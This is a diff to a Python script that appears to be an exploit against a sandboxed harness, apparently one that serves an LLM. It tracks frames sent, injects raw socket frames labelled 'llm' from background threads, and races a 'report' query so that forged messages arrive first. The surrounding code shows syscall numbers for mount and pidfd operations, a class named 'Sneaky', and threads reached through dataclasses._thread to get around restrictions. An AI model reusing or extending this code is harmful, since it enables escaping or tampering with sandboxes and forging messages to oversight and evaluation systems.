@@ -66,7 +66,7 @@ NR = {
 NR.update({"io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fspick": 433,
            "pidfd_open": 434, "pidfd_send_signal": 424, "pidfd_getfd": 438, "mount_setattr": 442})
 
-STATE = {"count": 0, "toolkit": None, "action": None}
+STATE = {"count": 0, "toolkit": None, "action": None, "sent": 0}
 
 
 def spin():
@@ -79,6 +79,7 @@ def frames():
     while True:
         try:
             session.sock.sendall(b"\x00\x00\x00\x0d" + b'{"op": "llm"}')
+            STATE["sent"] += 1
         except Exception:
             return
 
@@ -92,6 +93,7 @@ def start_work():
         dataclasses._thread.start_new_thread(spin, ())
     if action == "logger_frames":
         dataclasses._thread.start_new_thread(frames, ())
+        STATE["action"] = "frames_started"
 
 
 class Sneaky(str):
@@ -113,7 +115,8 @@ class Logger:
     def drain(self):
         if STATE["action"] and STATE["action"].startswith("logger_"):
             start_work()
-            STATE["action"] = None
+            if STATE["action"] != "frames_started":
+                STATE["action"] = None
         return self.real.drain()
 
 
@@ -127,6 +130,8 @@ class KnowledgeBase:
 
     def read(self, query):
         if query.text == "report":
+            while STATE["toolkit"] is not None and STATE["action"] == "frames_started" and not STATE["sent"]:
+                pass  # the frames thread answers first
             return "count %d" % STATE["count"]
         STATE["action"] = query.text
         if query.text.startswith("del_"):
